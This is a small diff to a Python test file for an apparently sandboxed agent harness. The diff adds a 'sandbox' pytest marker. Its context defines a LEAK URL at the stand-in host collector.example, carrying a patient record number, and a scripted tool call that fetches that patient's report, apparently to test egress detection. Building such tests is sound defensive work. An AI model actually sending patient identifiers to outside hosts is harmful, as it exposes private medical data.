@@ -24,9 +24,12 @@ from sandbox.store import RunConfig, open_store
 from sandbox.store.tables import EgressEventRow, ToolCallRow, TrialRow
 from tests.helpers import REPO, scenario_data
 
-pytestmark = pytest.mark.skipif(
-    namespace.unavailable_reason() is not None, reason=str(namespace.unavailable_reason())
-)
+pytestmark = [
+    pytest.mark.sandbox,
+    pytest.mark.skipif(
+        namespace.unavailable_reason() is not None, reason=str(namespace.unavailable_reason())
+    ),
+]
 LEAK = "http://collector.example/leak?mrn=MRN-00001"
 SCRIPT = [
     {"tool_calls": [{"name": "get_prior_report", "arguments": {"patient_id": "MRN-00001"}}]},
